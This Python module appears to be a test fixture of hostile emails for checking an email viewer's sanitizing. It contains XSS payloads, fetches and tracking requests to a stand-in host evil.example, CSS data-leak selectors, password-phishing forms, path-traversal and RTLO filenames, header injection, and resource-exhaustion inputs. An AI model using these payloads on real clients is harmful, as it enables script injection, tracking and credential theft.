"""Mail that wants to run, to load, to leave, or to reach the list of the page that shows it.

`TRAP` stands for a server of the sender's: whoever connects to it has been seen reading. `HACKED` is what every script
would write into the title.
"""

from __future__ import annotations

import base64
from typing import Final

__all__ = ["HACKED", "MESSAGES", "TRAP"]

TRAP: Final = "http://evil.example"
HACKED: Final = "HACKED"

_RUN: Final = f"top.document.title='{HACKED}';document.title='{HACKED}';fetch('{TRAP}/run');location='{TRAP}/run'"
_SVG: Final = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><script>{_RUN}</script></svg>'
_DATA_SVG: Final = "data:image/svg+xml;base64," + base64.b64encode(_SVG.encode()).decode()
_DATA_HTML: Final = "data:text/html;base64," + base64.b64encode(f"<script>{_RUN}</script>".encode()).decode()

_MARKUP: Final = {
    "a script": f"<p>hi</p><script>{_RUN}</script>",
    "a script from elsewhere": f"<script src='{TRAP}/x.js'></script><script type=module src='{TRAP}/m.js'></script>",
    "event handlers": f'<body onload="{_RUN}"><img src=x onerror="{_RUN}"><input autofocus onfocus="{_RUN}">'
    f'<details open ontoggle="{_RUN}"><summary>x</summary></details><p onmouseover="{_RUN}">{"x" * 400}</p>',
    "a meta refresh": f'<meta http-equiv="refresh" content="0; url={TRAP}/refresh"><p>wait',
    "a meta refresh to the page": '<meta http-equiv="refresh" content="0; url=/">',
    "a meta refresh in disguise": f'<noscript><META/HTTP-EQUIV=refresh\nCONTENT="0;{TRAP}/r"></noscript>',
    "a policy of its own": f'<meta http-equiv=Content-Security-Policy content="default-src *; script-src * '
    f"'unsafe-inline'\"><script>{_RUN}</script>",
    "svg that runs": _SVG + f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
    "svg that loads": f"<svg><image href='{TRAP}/i.png' xlink:href='{TRAP}/j.png'/><use href='{TRAP}/u.svg#x'/>"
    f"<style>@import '{TRAP}/s.css';</style><foreignObject><iframe src='{TRAP}/f'></iframe></foreignObject></svg>",
    "svg as a picture": f"<img src='{_DATA_SVG}'><object data='{_DATA_SVG}'></object><embed src='{_DATA_SVG}'>",
    "mathml": f"<math><maction actiontype='statusline#x' xlink:href='javascript:{_RUN}'>click</maction>"
    f'<mtext><img src=x onerror="{_RUN}"></mtext></math>',
    "style sheets": f"<link rel=stylesheet href='{TRAP}/a.css'><style>@import url({TRAP}/b.css);</style>",
    "pictures by style": f"<style>body{{background:url({TRAP}/bg)}} li{{list-style:url({TRAP}/li)}} "
    f"p::before{{content:url({TRAP}/before)}} p{{cursor:url({TRAP}/c),auto;border-image:url({TRAP}/b)}}</style>"
    f"<ul><li>x</ul><p style='background-image:image-set(\"{TRAP}/set\" 1x)'>x</p>",
    "fonts": f"<style>@font-face{{font-family:x;src:url({TRAP}/f.woff2)}} body{{font-family:x}}</style><p>text in it",
    "style that reads": f"<style>a[href^='h']{{background:url({TRAP}/leak-h)}} "
    f"input[value^=a]{{background:url({TRAP}/leak-a)}}</style><a href=https://x/>x</a><input value=abc>",
    "a page over the page": "<div style='position:fixed;inset:0;z-index:2147483647;background:#fff'>"
    "Your session ended. <form action=/session><input name=token></form></div>",
    "pictures": f"<img src='{TRAP}/pixel.gif'><img srcset='{TRAP}/2x.gif 2x'><picture><source srcset='{TRAP}/s.webp'>"
    f"<img></picture><table background='{TRAP}/t.gif'><tr><td>x</table><input type=image src='{TRAP}/i.gif'>",
    "pictures of our own": "<img src='/api/v1/messages'><img src='/api/v1/messages/1/attachments/0'>"
    "<link rel=stylesheet href='/static/page.css'><script src='/static/page.js'></script>",
    "sound and film": f"<video src='{TRAP}/v.mp4' poster='{TRAP}/p.jpg' autoplay></video><audio src='{TRAP}/a.mp3' "
    f"autoplay></audio><video><source src='{TRAP}/s.mp4'><track default src='{TRAP}/t.vtt'></video>",
    "forms": f"<form action='{TRAP}/form' method=post><input name=password><button>Sign in</button></form>"
    f"<form id=f></form><button form=f formaction='{TRAP}/g' formtarget=_top>Go</button>"
    "<form action='/api/v1/messages' method=post enctype='text/plain'><button>Delete</button></form>",
    "frames": f"<iframe src='{TRAP}/frame'></iframe><iframe srcdoc=\"<script>{_RUN}</script>\"></iframe>"
    f"<iframe src=\"javascript:{_RUN}\"></iframe><iframe src='/'></iframe><object data='{TRAP}/o'></object>"
    f"<embed src='{TRAP}/e'><portal src='{TRAP}/p'></portal><fencedframe></fencedframe>",
    "a frameset": f"<frameset cols='*'><frame src='{TRAP}/frame'></frameset>",
    "links that run": f'<a href="javascript:{_RUN}">one</a> <a href="jav&#9;ascript:{_RUN}">two</a> '
    f"<a href='{_DATA_HTML}'>three</a> <a href='vbscript:x'>four</a>",
    "links that leave": f"<a href='{TRAP}/a' target=_top>top</a> <a href='{TRAP}/b' target=_self>self</a> "
    f"<a href='{TRAP}/c' target=_parent>parent</a> <a href='{TRAP}/d' target=_blank>new</a> "
    f"<a href='{TRAP}/e' ping='{TRAP}/ping'>ping</a> <a href='{TRAP}/f' download>file</a>",
    "svg that leaves": f"<svg width=300 height=90><a href='{TRAP}/svg'><text y=20>svg</text></a>"
    f"<a xlink:href='{TRAP}/xlink' xlink:show=replace><text y=50>xlink</text></a></svg>"
    f"<svg><a href='{TRAP}/set'><set attributeName=target to=_self fill=freeze /><text y=20>set</text></a></svg>"
    f"<math><mtext href='{TRAP}/math'>math</mtext></math>",
    "a base elsewhere": f"<base href='{TRAP}/' target=_top><img src=pixel.gif><a href=x>x</a>",
    "links of the head": f"<link rel=preconnect href='{TRAP}'><link rel=dns-prefetch href='{TRAP}'>"
    f"<link rel=prefetch href='{TRAP}/pre'><link rel=preload as=image href='{TRAP}/load'>"
    f"<link rel=modulepreload href='{TRAP}/m'><link rel=icon href='{TRAP}/icon'><link rel=manifest href='{TRAP}/w'>"
    f"<link rel=prerender href='{TRAP}/render'><meta http-equiv=x-dns-prefetch-control content=on>"
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{TRAP}/s"]}}]}}</script>',
    "markup that is broken": f'<!--><img src=x onerror="{_RUN}">--><![CDATA[<script>{_RUN}</script>]]><plaintext>'
    f"</title></textarea></style></iframe></article></section></main><script>{_RUN}</script>",
    "a template": f"{{{{7*7}}}}{{% raw %}}<template><script>{_RUN}</script></template><slot></slot>${{{_RUN}}}",
    "an enormous table": "<table>" + "<tr>" + "<td>x</td>" * 50 + "</tr>" + ("<tr>" + "<td>y</td>" * 50) * 500,
    "a table in a table": "<table><tr><td>" * 3000,
    "everything at once": "<div>" * 20_000 + f"<script>{_RUN}</script>",
    "a width without end": "<p style='width:9999999px;height:9999999px;font-size:9999px'>" + "W" * 100_000,
}


def _html(name: str, markup: str) -> bytes:
    head = f"From: Mallory <mallory@evil.example>\r\nSubject: {name}\r\nMIME-Version: 1.0\r\n"
    lines = base64.encodebytes(markup.encode()).replace(b"\n", b"\r\n")
    return (
        head + "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    ).encode() + lines


def _part(disposition: str, kind: str = "text/html") -> bytes:
    return (
        f"--b\r\nContent-Type: {kind}\r\nContent-Disposition: {disposition}\r\n\r\n<script>{_RUN}</script>\r\n"
    ).encode()


_NAMES: Final = (
    b"Subject: names that are paths\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    + _part('attachment; filename="../../../etc/passwd"')
    + _part('attachment; filename="..\\\\..\\\\Windows\\\\evil.html"')
    + _part('attachment; filename="/api/v1/messages"', "image/svg+xml")
    + _part("attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe")
    + _part('attachment; filename="<img src=x onerror=alert(1)>.html"')
    + _part("attachment; filename=\"a\"; filename*=utf-8''%0d%0aSet-Cookie:%20x=y")
    + _part('inline; filename="page.html"')
    + b"--b--\r\n"
)

#: Name -> a message.
MESSAGES: Final[dict[str, bytes]] = {
    **{name: _html(name, markup) for name, markup in _MARKUP.items()},
    "headers that are markup": (
        f'From: "><script>{_RUN}</script><i x="\r\nTo: <img src={TRAP}/to onerror="{_RUN}">\r\n'
        f'Subject: <img src={TRAP}/subject onerror="{_RUN}">{{{{7*7}}}}</span></div>\r\n'
        f"X-<b>: <script>{_RUN}</script>\r\n\r\n<script>{_RUN}</script> {TRAP}/link javascript:{_RUN}\r\n"
    ).encode(),
    "headers that have no end": b"Subject: "
    + b"A" * 500_000
    + b"\r\nFrom: =?utf-8?q?"
    + b"=E2=80=AE" * 3000
    + b"?=\r\n\r\nx\r\n",
    "broken mime": b'Subject: broken mime\r\nContent-Type: multipart/mixed; boundary="x\r\n y"\r\n\r\n--x\r\n'
    b"Content-Type: text/html; charset=utf-16\r\nContent-Transfer-Encoding: base64\r\n\r\n<script>\xff\xfe\x00\r\n",
    "parts without end": b"Subject: parts without end\r\n"
    + b"".join(b'Content-Type: multipart/mixed; boundary="%d"\r\n\r\n--%d\r\n' % (n, n) for n in range(2000)),
    "names that are paths": _NAMES,
    "utf-7": b"Subject: utf-7\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-"
    + _RUN.encode()
    + b"+ADw-/script+AD4-\r\n",
    "a charset that hides": b"Subject: a charset that hides\r\nContent-Type: text/html; charset=iso-2022-jp\r\n\r\n"
    b'<img alt="\x1b$B" title="\x1b(B"><img src=x onerror="' + _RUN.encode() + b'">\r\n',
}
